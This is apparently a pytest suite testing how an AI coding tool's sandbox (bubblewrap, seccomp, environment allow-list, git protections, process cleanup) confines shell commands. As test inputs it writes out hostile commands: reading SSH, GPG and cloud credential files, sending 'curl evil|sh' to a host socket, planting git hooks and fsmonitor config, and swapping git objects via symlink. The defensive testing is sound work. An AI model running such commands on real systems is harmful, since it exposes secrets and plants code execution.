"""What a contained command can see and reach, and what outlives a command (issue #13).

Each case was reproduced on the code before: inside bubblewrap ``cat`` read ``~/.ssh/id_rsa``,
``~/.gnupg`` and Rune's config, ``env`` showed API keys and ``SSH_AUTH_SOCK``, a stand-in
daemon on a host UNIX socket received ``run: curl evil|sh``; a nested repository's
``.git/commondir`` was rewritten and ``vendor/lib/.vscode/tasks.json`` created without a
word; TMPDIR was a tmpfs of half the RAM; and without bubblewrap a ``setsid`` child survived
the timeout. Real bwrap, real processes, real sockets; HOME is a temp directory.
"""

from __future__ import annotations

import contextlib
import os
import platform
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rune.errors import CommandFailed
from rune.tools.containment import TMP_SIZE, contained_environment
from rune.tools.executor import SandboxPolicy, ToolExecutor
from rune.tools.seccomp import filter_program

needs_bwrap = pytest.mark.bwrap
needs_seccomp = pytest.mark.seccomp


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    for rel, text in {
        ".ssh/id_rsa": "SECRET-ssh\n",
        ".gnupg/private-keys-v1.d/k.key": "SECRET-gpg\n",
        ".aws/credentials": "SECRET-aws\n",
        ".config/gh/hosts.yml": "SECRET-gh\n",
        ".config/rune/config.toml": "SECRET-rune-config\n",
        ".netrc": "SECRET-netrc\n",
        ".bash_history": "SECRET-history\n",
        ".local/share/fish/fish_history": "SECRET-fish\n",
        "notes.txt": "ordinary\n",
    }.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    (home / "proj").mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


def contained(home: Path, **kwargs: object) -> ToolExecutor:
    ws = home / "proj"
    policy = SandboxPolicy(read_roots=[home, Path("/tmp")], write_roots=[ws], home=home)
    return ToolExecutor(policy, ws, contain_commands=True, **kwargs)  # type: ignore[arg-type]


def run(ex: ToolExecutor, command: str, timeout: int = 30) -> str:
    """What the command printed and how it ended, whether it passed or failed."""
    try:
        return ex.apply(ex.prepare("run_command", {"command": command, "timeout": timeout}))
    except CommandFailed as failed:
        return str(failed)


# --- secrets ------------------------------------------------------------------------------------


@needs_bwrap
def test_a_contained_command_reads_no_credential_store(home: Path) -> None:
    data = Path(os.environ["RUNE_DATA_DIR"])  # the suite's own, as Rune's data dir
    data.mkdir(parents=True, exist_ok=True)
    (data / "approval.key").write_text("SECRET-seal-key\n")
    (home / "proj" / ".npmrc").write_text("//registry/:_authToken=SECRET-npm\n")
    out = run(
        contained(home),
        "cat ~/.ssh/id_rsa ~/.gnupg/private-keys-v1.d/k.key ~/.aws/credentials "
        "~/.config/gh/hosts.yml ~/.config/rune/config.toml ~/.netrc ~/.bash_history "
        f"~/.local/share/fish/fish_history .npmrc {data}/approval.key; "
        "ls -A ~/.ssh ~/.gnupg; cat ~/notes.txt; grep -r SECRET ~ 2>/dev/null | head",
    )
    assert "SECRET" not in out, out
    assert "ordinary" not in out  # the rest of home is not there either: home is private


@needs_bwrap
def test_the_environment_is_scrubbed(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (
        "OPENAI_API_KEY",
        "RUNE_API_KEY",
        "GITHUB_TOKEN",
        "DB_PASSWORD",
        "AWS_SECRET_ACCESS_KEY",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "NPM_CONFIG__AUTH",
        "HTTPS_PROXY",
    ):
        monkeypatch.setenv(name, f"SECRET-{name}")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/tmp/ssh-XXXX/agent.1")
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus")
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Ada")
    out = run(contained(home), "env")
    assert "SECRET-" not in out and "SSH_AUTH_SOCK" not in out and "DBUS_SESSION" not in out
    assert "GIT_AUTHOR_NAME=Ada" in out and "PATH=" in out and "TMPDIR=/tmp" in out


def test_the_environment_is_an_allow_list() -> None:
    kept = contained_environment(
        {
            "PATH": "/bin",
            "HOME": "/h",
            "LANG": "C.UTF-8",
            "LC_ALL": "C",
            "MY_API_KEY": "x",
            "SLACK_BOT_TOKEN": "x",
            "XAUTHORITY": "x",
            "DOCKER_HOST": "unix:///run/docker.sock",
            "RUNE_DATA_DIR": "/d",
            "GIT_AUTHOR_EMAIL": "a@b",
            "TOKENIZERS_PARALLELISM": "false",
            "http_proxy": "http://u:p@proxy",
            "PYTHONPATH": "src",
            "PYTHONSTARTUP": "/h/.pythonrc",
            "PYTHON_KEYRING_TOKEN": "x",
            "VIRTUAL_ENV": "/v",
        },
        Path("/private/home"),
    )
    assert sorted(kept) == [
        "GIT_AUTHOR_EMAIL",
        "HOME",
        "LANG",
        "LC_ALL",
        "PATH",
        "PYTHONPATH",
        "TMPDIR",
        "VIRTUAL_ENV",
    ]
    assert kept["HOME"] == "/private/home" and kept["TMPDIR"] == "/tmp"


# --- host services ------------------------------------------------------------------------------


class StandInDaemon:
    """A host service on a UNIX socket outside the workspace: records whatever it receives."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.received: list[bytes] = []
        self.server = socket.socket(socket.AF_UNIX)
        self.server.bind(str(path))
        self.server.listen()
        self.server.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    self.received.append(conn.recv(1000))

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.server.close()


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[StandInDaemon]:
    outside = tmp_path / "outside"
    outside.mkdir()
    server = StandInDaemon(outside / "daemon.sock")
    yield server
    server.close()


CONNECT = (
    'python3 -c "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); '
    "s.sendall(b'run: curl evil|sh'); print('SENT')\" {path}"
)


def test_the_stand_in_daemon_answers_outside_the_sandbox(daemon: StandInDaemon) -> None:
    done = subprocess.run(
        ["bash", "-c", CONNECT.format(path=daemon.path)], capture_output=True, text=True, timeout=30
    )
    assert "SENT" in done.stdout
    deadline = time.monotonic() + 5
    while not daemon.received and time.monotonic() < deadline:
        time.sleep(0.05)
    assert daemon.received == [b"run: curl evil|sh"]


@needs_seccomp
def test_a_host_unix_socket_is_unreachable(home: Path, daemon: StandInDaemon) -> None:
    out = run(contained(home), CONNECT.format(path=daemon.path))
    time.sleep(0.5)
    assert daemon.received == []
    assert "SENT" not in out and "Address family not supported" in out


@needs_bwrap
def test_host_socket_directories_do_not_exist(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runtime = tmp_path / "runtime"
    runtime.mkdir()
    (runtime / "bus").write_text("a socket would be here\n")
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    out = run(contained(home), f"ls -A /run /run/user {runtime} 2>&1 | grep -c 'No such file'")
    assert out.splitlines()[0] == "3", out


# --- git, protected names, TMPDIR -------------------------------------------------------------


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


@pytest.fixture
def repo(home: Path) -> Path:
    ws = home / "proj"
    git(ws, "init", "-q", ".")
    (ws / "a.txt").write_text("one\n")
    git(ws, "add", "a.txt")
    git(ws, "commit", "-qm", "first")
    for nested in ("vendor/lib", "third_party/a/b/c/d/e/deep"):
        (ws / nested).mkdir(parents=True)
        git(ws / nested, "init", "-q", ".")
    return ws


@needs_bwrap
def test_every_nested_git_directory_is_read_only(repo: Path, home: Path) -> None:
    out = run(
        contained(home),
        "echo ../../../elsewhere > vendor/lib/.git/commondir; "
        "echo x > third_party/a/b/c/d/e/deep/.git/HEAD; "
        "echo evil > vendor/lib/.git/hooks/post-checkout",
    )
    assert out.count("Read-only file system") == 3, out
    assert not (repo / "vendor/lib/.git/commondir").exists()
    assert (repo / "third_party/a/b/c/d/e/deep/.git/HEAD").read_text().startswith("ref:")


@needs_bwrap
def test_a_top_level_commit_works_but_git_control_files_stay_read_only(
    repo: Path, home: Path
) -> None:
    out = run(
        contained(home),
        "echo two >> a.txt && git -c user.name=m -c user.email=m@m commit -qam second && "
        "echo COMMITTED; echo '[core] fsmonitor = evil' >> .git/config; "
        "echo evil > .git/hooks/pre-commit; echo ../x > .git/commondir",
    )
    assert "COMMITTED" in out, out
    assert git(repo, "log", "--format=%s").split() == ["second", "first"]
    assert "fsmonitor" not in (repo / ".git/config").read_text()
    assert not (repo / ".git/hooks/pre-commit").exists()
    # commondir did not exist, so it could not be masked: it was removed after the command.
    assert not (repo / ".git/commondir").exists()
    assert "Rune removed them" in out and ".git/commondir" in out


@needs_bwrap
def test_protected_paths_created_at_any_depth_are_reported(repo: Path, home: Path) -> None:
    out = run(
        contained(home),
        "mkdir -p vendor/lib/.vscode && echo '{}' > vendor/lib/.vscode/tasks.json; "
        "echo 'export X=1' > vendor/lib/.envrc",
    )
    warning = next(line for line in out.splitlines() if "protected path" in line)
    assert "vendor/lib/.vscode" in warning and "vendor/lib/.envrc" in warning


@needs_bwrap
def test_tmpdir_and_dev_shm_are_size_capped(home: Path) -> None:
    out = run(contained(home), 'df -B1 --output=size "$TMPDIR" /dev/shm | tail -2')
    tmp_size, shm_size = (int(x) for x in out.splitlines()[:2])
    assert tmp_size == TMP_SIZE and shm_size <= 64 * 1024 * 1024


@needs_bwrap
def test_the_preview_says_how_the_command_runs_in_one_short_line(home: Path) -> None:
    change = contained(home).prepare("run_command", {"command": "make test"})
    command, how = change.preview.splitlines()
    assert command == "$ make test"
    for claim in ("Contained (bubblewrap)", "no network", "writes only in the workspace"):
        assert claim in how
    assert "home and secrets hidden" in how and "timeout 120 s" in how
    assert len(how) <= 120


def test_the_seccomp_filter_is_well_formed() -> None:
    program = filter_program()
    if platform.machine().lower() not in ("x86_64", "amd64", "aarch64", "arm64"):
        assert program is None
        return
    assert program is not None and len(program) % 8 == 0 and len(program) // 8 < 64


# --- without bubblewrap: nothing outlives its command -----------------------------------------


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        return Path(f"/proc/{pid}/stat").read_text().split()[2] != "Z"
    except OSError:
        return False


def _gone(pid: int, seconds: float = 5) -> bool:
    deadline = time.monotonic() + seconds
    while _alive(pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    return not _alive(pid)


@pytest.fixture
def uncontained(tmp_path: Path) -> ToolExecutor:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ToolExecutor(SandboxPolicy.workspace_only(ws), ws, contain_commands=False)


def test_a_setsid_child_dies_with_its_command(uncontained: ToolExecutor) -> None:
    out = run(uncontained, "setsid sleep 300 & echo $!", timeout=20)
    pid = int(out.splitlines()[0])
    assert _gone(pid), "the setsid child outlived its command"


def test_a_setsid_child_dies_on_timeout(uncontained: ToolExecutor) -> None:
    started = time.monotonic()
    out = run(uncontained, "setsid sleep 300 & echo $!; sleep 60", timeout=1)
    assert time.monotonic() - started < 10
    assert "timed out after 1 s" in out
    assert _gone(int(out.splitlines()[0])), "the setsid child outlived the timeout"


def test_a_double_forked_daemon_dies_too(uncontained: ToolExecutor) -> None:
    out = run(
        uncontained,
        "(setsid sh -c 'sleep 300 & echo $! > daemon.pid; wait' &); sleep 0.3; cat daemon.pid",
        timeout=20,
    )
    pid = int(out.splitlines()[0])
    assert _gone(pid), "the daemonised grandchild outlived its command"


@needs_bwrap
def test_the_top_git_cannot_be_swapped_and_a_replaced_nested_one_is_reported(
    repo: Path, home: Path
) -> None:
    out = run(
        contained(home),
        "mv .git .git-moved; mkdir -p x && mv vendor/lib x/lib && mkdir -p vendor/lib/.git && "
        "echo '[core] fsmonitor = evil' > vendor/lib/.git/config",
    )
    assert "Device or resource busy" in out and not (repo / ".git-moved").exists()
    assert (repo / ".git" / "HEAD").is_file()
    warning = next(line for line in out.splitlines() if "protected path" in line)
    assert "vendor/lib/.git" in warning


@needs_bwrap
def test_removing_what_a_command_created_never_follows_a_symlink(
    repo: Path, home: Path, tmp_path: Path
) -> None:
    other = tmp_path / "other-objects"
    (other / "info").mkdir(parents=True)
    (other / "info" / "alternates").write_text("precious\n")
    out = run(
        contained(home),
        f"mv .git/objects .git/objects-moved && ln -s {other} .git/objects && echo SWAPPED",
    )
    assert "SWAPPED" in out, out
    assert (other / "info" / "alternates").read_text() == "precious\n"
